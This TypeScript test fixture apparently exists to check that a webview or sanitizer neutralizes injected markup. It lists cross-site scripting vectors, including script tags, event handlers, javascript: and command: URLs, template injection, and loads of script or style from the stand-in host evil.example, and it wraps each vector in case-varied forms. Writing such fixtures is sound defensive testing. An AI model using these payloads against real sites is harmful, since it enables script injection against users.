/** Scripts as people try to get them into pages; each would set `hit` if it ran. */
const VECTORS: readonly string[] = [
  '<script>hit=1</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="hit=1">',
  '<svg onload="hit=1">',
  '<svg><script>hit=1</script></svg>',
  '<body onload="hit=1">',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<iframe src="javascript:parent.hit=1"></iframe>',
  '<a href="javascript:hit=1" autofocus onfocus="hit=1">a</a>',
  '<details open ontoggle="hit=1">',
  '<video><source onerror="hit=1"></video>',
  '<input autofocus onfocus="hit=1">',
  '<math><mtext></mtext><script>hit=1</script></math>',
  '<object data="javascript:hit=1"></object>',
  '<embed src="javascript:hit=1">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus onfocus="hit=1">b</button></form>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x.png)">c</div>',
  '"><script>hit=1</script>',
  "'-hit=1-'",
  '</title><script>hit=1</script>',
  '</textarea><img src=x onerror="hit=1">',
  '<!--><img src=x onerror="hit=1">-->',
  '<template><img src=x onerror="hit=1"></template>',
  '${hit=1}',
  '{{constructor.constructor("hit=1")()}}',
  '&lt;img src=x onerror="hit=1"&gt;',
  'javascript:hit=1',
  'command:workbench.action.closeAllEditors',
];

/** What stands round a vector, so that it differs in each place. */
const WRAPS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `a ${vector} b`,
  (vector) => `"${vector}"`,
  (vector) => vector.replace(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter : letter.toUpperCase())).replaceAll(/hit/gi, 'hit'),
];

/** All of them, each once. */
export const PAYLOADS: readonly string[] = [...new Set(WRAPS.flatMap((wrap) => VECTORS.map(wrap)))];

/** What would have been made of a payload that was taken for markup. */
export const MADE =
  'img, iframe, object, embed, video, math, template, base, form[action], link[href*="evil"], script:not([nonce]), style, meta[http-equiv=refresh], [onload], [onerror], [onfocus], [ontoggle], a[href^="javascript:"], a[href^="command:"]';
